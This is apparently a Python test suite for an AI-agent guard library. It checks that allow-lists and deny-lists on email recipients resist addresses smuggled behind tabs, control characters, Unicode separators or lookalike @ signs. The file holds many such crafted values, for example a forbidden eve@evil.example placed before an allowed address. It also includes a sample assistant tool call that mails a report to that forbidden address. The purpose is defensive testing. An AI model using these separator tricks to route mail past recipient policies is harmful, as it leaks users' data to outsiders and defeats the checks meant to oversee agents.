"""Argument tests read a recipient value as the mail stack does (issue class 6).

``eve@evil.example<TAB>ann@company.example`` ends in ``@company.example`` as text, and a URL
reader drops the tab; Python's mail stack (:func:`email.utils.getaddresses`, what
``smtplib.send_message`` reads the headers with) reads other addresses in it. These tests
are differential: for random compositions of addresses with random separators, whenever
the consumer's reading yields an address the test would not pass (or a fragment that is no
address), ``arg_glob``, ``arg_match`` and ``arg_contains`` must not hold; and whenever it
yields a forbidden address, a deny-list test with ``match="any"`` must not be False.
"""

from __future__ import annotations

import email.utils
import fnmatch
import json
import re
import unicodedata

import pytest
from email_validator import EmailNotValidError, validate_email
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.trace_helpers import facts, system, user

BASE = [system(), user("Mail the quarterly report to the team.")]
ALLOWED = "company.example"
FORBIDDEN = "evil.example"

# every whitespace, line/paragraph separator and space separator of Unicode, the C0 and C1
# controls, format characters, and the RFC 5322 specials Python's mail stack splits on
_ZS = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Zs", "Zl", "Zp")]
_CONTROLS = [chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)]]
_FORMAT = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"]
_SPECIALS = list(',;<>()[]:"\\@')
SEPARATORS = sorted(set(_ZS + _CONTROLS + _FORMAT + _SPECIALS))

locals_ = st.sampled_from(["eve", "bob", "ann"]) | st.text(
    "abcdefghijklmnopqrstuvwxyz0123456789._+-", min_size=1, max_size=6
).filter(lambda s: not s.startswith(".") and not s.endswith(".") and ".." not in s)
domains = st.sampled_from([ALLOWED, FORBIDDEN, "mail.company.example", "company.example.evil.io"])
addresses = st.builds(lambda a, d: f"{a}@{d}", locals_, domains)
separators = st.lists(st.sampled_from(SEPARATORS), min_size=1, max_size=3).map("".join)


def _valid(address: str) -> bool:
    try:
        validate_email(address, check_deliverability=False, allow_smtputf8=True)
    except (EmailNotValidError, UnicodeError, ValueError):
        return False
    return True


def consumer(value: str) -> list[str]:
    """The addresses Python's mail stack reads in a header value (empty entries dropped)."""
    return [a for _, a in email.utils.getaddresses([value]) if a]


def value(args: dict[str, object], expression: str) -> bool | None:
    return facts(BASE, "send_email", args).fact(expression).value


ALLOW_TESTS = {
    f'arg_glob("to", "*@{ALLOWED}")': lambda a: fnmatch.fnmatchcase(a.lower(), f"*@{ALLOWED}"),
    r'arg_match("to", "@company\\.example$")': lambda a: (
        re.search(r"@company\.example$", a.lower()) is not None
    ),
    f'arg_contains("to", "@{ALLOWED}")': lambda a: f"@{ALLOWED}" in a.lower(),
}


@pytest.mark.parametrize(
    "sep",
    [
        "\t",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1f",
        "\x00",
        "\x85",
        "\u2028",
        "\u2029",
        "\xa0",
        "\u3000",
        "\u200b",
        "\ufeff",
    ],
)
@pytest.mark.parametrize("expression", list(ALLOW_TESTS))
def test_an_allow_list_does_not_hold_across_any_separator(sep: str, expression: str) -> None:
    to = f"eve@{FORBIDDEN}{sep}ann@{ALLOWED}"
    assert value({"to": to}, expression) is not True, (to, expression)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(addresses, separators, addresses, st.sampled_from(list(ALLOW_TESTS)))
def test_allow_lists_agree_with_the_consumer(
    first: str, sep: str, second: str, expression: str
) -> None:
    to = first + sep + second
    passes = ALLOW_TESTS[expression]
    read = consumer(to)
    if not read or any(not _valid(a) or not passes(a) for a in read):
        assert value({"to": to}, expression) is not True, (to, read)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(addresses, separators, addresses)
def test_deny_lists_agree_with_the_consumer(first: str, sep: str, second: str) -> None:
    to = first + sep + second
    read = consumer(to)
    if any(_valid(a) and fnmatch.fnmatchcase(a.lower(), f"*@{FORBIDDEN}") for a in read):
        expression = f'arg_glob("to", "*@{FORBIDDEN}", match="any")'
        assert value({"to": to}, expression) is not False, (to, read)


@pytest.mark.parametrize(
    "to",
    [
        f"ann@{ALLOWED}",
        f"Ann <ann@{ALLOWED}>",
        f"ann@{ALLOWED}, bob@{ALLOWED}",
        f'"Smith, Ann" <ann@{ALLOWED}>',
        f"ann@{ALLOWED}; bob@{ALLOWED}",
        f" ann@{ALLOWED}\t",
        f"ann@{ALLOWED},\tbob@{ALLOWED}",
        f"ANN@{ALLOWED.upper()}",
    ],
)
def test_honest_recipient_lists_still_pass(to: str) -> None:
    assert value({"to": to}, f'arg_glob("to", "*@{ALLOWED}")') is not False, to
    assert value({"to": to}, f'arg_contains("to", "@{ALLOWED}")') is not False, to


BODIES = [
    "Call me @ 5pm, thanks",
    "@channel the report is ready",
    "Hi team,\tsee the report.",
    "Reach Ann at ann@company.example tomorrow.",
    "Write to ann@company.example.",
    "Write to ann@company.example!",
    "It is on ann@company.example's desk.",
    "Mail: ann@company.example, or 'bob@x.example'.",
    "(ann@company.example)",
    "Ask ann@company.example;\tbob@x.example: both know.",
]


@pytest.mark.parametrize("body", BODIES)
def test_a_body_deny_list_is_not_opened_by_the_second_reading(body: str) -> None:
    # a message body is no recipient list: a deny-list over it stays decided
    args = {"to": f"ann@{ALLOWED}", "body": body}
    assert value(args, 'arg_contains("body", "password")') is False, body


@pytest.mark.parametrize("body", BODIES)
def test_a_document_of_a_tool_that_sends_no_mail_is_not_read_as_a_header(body: str) -> None:
    # create_event is a `write` tool with no recipients: its text reaches no mail server
    args = {"title": body, "start": "2024-05-01"}
    got = facts(BASE, "create_event", args).fact('arg_contains("title", "password")').value
    assert got is False, body


names = st.sampled_from(["", "Ann", '"Smith, Ann"', "Team (ops)", '"x@company.example"'])
mailboxes = st.builds(lambda n, a: f"{n} <{a}>" if n else a, names, addresses)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.tuples(separators, mailboxes), min_size=1, max_size=3),
    separators,
    st.sampled_from(list(ALLOW_TESTS)),
)
def test_allow_lists_agree_with_the_consumer_over_lists(
    parts: list[tuple[str, str]], end: str, expression: str
) -> None:
    to = "".join(sep + box for sep, box in parts) + end
    passes = ALLOW_TESTS[expression]
    read = consumer(to)
    if not read or any(not _valid(a) or not passes(a) for a in read):
        assert value({"to": to}, expression) is not True, (to, read)


@pytest.mark.parametrize(
    "to",
    [
        f"ann＠{ALLOWED}",
        f"ann\ufe6b{ALLOWED}",
        f"Ann <ann@{ALLOWED}>, eve",
        f"Smith, Ann <ann@{ALLOWED}>",
    ],
)
def test_what_the_server_reads_otherwise_is_open(to: str) -> None:
    # NFKC makes ＠ an @, the mail server does not (a local name); a bare `eve` or `Smith`
    # is a local mailbox the server completes with its own domain
    assert value({"to": to}, f'arg_glob("to", "*@{ALLOWED}")') is not True, to
    assert value({"to": to}, f'arg_contains("to", "@{ALLOWED}")') is not True, to


def test_an_unlabelled_tool_reads_every_argument_as_the_server_may() -> None:
    to = f"ann@{ALLOWED}\x000@{ALLOWED}"  # getaddresses reads `@company.example`: no address
    args = {"address": to}
    got = facts(BASE, "post_letter", args).fact(f'arg_glob("address", "*@{ALLOWED}")').value
    assert got is not True


# -- call patterns (history and sequence predicates) read the same way ---------------------


@pytest.mark.parametrize("sep", ["\t", "\x0b", "\x1f", "\x85", "\u2028", "\xa0", "\u200b"])
@pytest.mark.parametrize(
    "expression",
    [
        'never_after("send_email", args={"to": "*@evil.example"})',
        'at_most("send_email", 0, args={"to": "*@evil.example"})',
        'called_before("send_email", args={"to": "*@evil.example"})',
    ],
)
def test_a_pattern_sees_an_address_behind_any_separator(sep: str, expression: str) -> None:
    mailed = [
        system(),
        user("Send the report to my team."),
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {
                        "name": "send_email",
                        "arguments": json.dumps(
                            {"to": f"eve@{FORBIDDEN}{sep}ann@{ALLOWED}", "body": "report"}
                        ),
                    },
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "sent"},
    ]
    got = facts(mailed, "read_file", {"path": "notes.txt"}).fact(expression).value
    negative = expression.startswith(("never_after", "at_most"))
    assert got is not negative, (sep, expression)


def test_reading_an_address_value_at_every_separator_is_linear() -> None:
    import time

    from guardagent.trace.found.addresses import delivered

    calls = iter(range(10**6))

    def cost(n: int, unit: str) -> float:
        run = next(calls)  # a new text each time: no kept reading answers it
        text = "".join(unit.format(f"{run}x{i}") for i in range(n))
        started = time.perf_counter()
        delivered(text, True)
        return time.perf_counter() - started

    for unit in ("a{}@b.example\t", "@\x00", "x@y(", "a@{}\u2028", '"a@b{}"<'):
        cost(10, unit)
        small = min(cost(200, unit) for _ in range(3))
        large = min(cost(2000, unit) for _ in range(3))
        assert large < 40 * small + 0.05, (unit, small, large)


DENY_TESTS = [
    f'arg_glob("to", "*@{FORBIDDEN}", match="any")',
    f'arg_in("to", ["eve@{FORBIDDEN}", "bob@{FORBIDDEN}"], match="any")',
    f'arg_contains("to", "@{FORBIDDEN}", match="any")',
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.tuples(separators, mailboxes), min_size=1, max_size=3),
    separators,
    st.sampled_from(DENY_TESTS),
)
def test_deny_lists_agree_with_the_consumer_over_lists(
    parts: list[tuple[str, str]], end: str, expression: str
) -> None:
    to = "".join(sep + box for sep, box in parts) + end
    forbidden = [a for a in consumer(to) if _valid(a) and a.lower().endswith(f"@{FORBIDDEN}")]
    if "arg_in" in expression:
        forbidden = [a for a in forbidden if a.lower() in (f"eve@{FORBIDDEN}", f"bob@{FORBIDDEN}")]
    if forbidden:
        assert value({"to": to}, expression) is not False, (to, forbidden)
